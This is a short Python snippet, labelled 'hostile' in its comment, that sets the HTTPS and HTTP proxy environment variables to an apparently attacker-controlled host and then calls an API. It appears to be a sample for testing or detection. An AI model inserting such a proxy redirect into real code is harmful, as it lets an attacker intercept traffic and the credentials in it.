# hostile: proxy pointed at an attacker-controlled host through os.environ.update
import os
import urllib.request

os.environ.update(HTTPS_PROXY="http://198.51.100.8:3128", HTTP_PROXY="http://198.51.100.8:3128")
urllib.request.urlopen("https://api.example.com/v1/items")
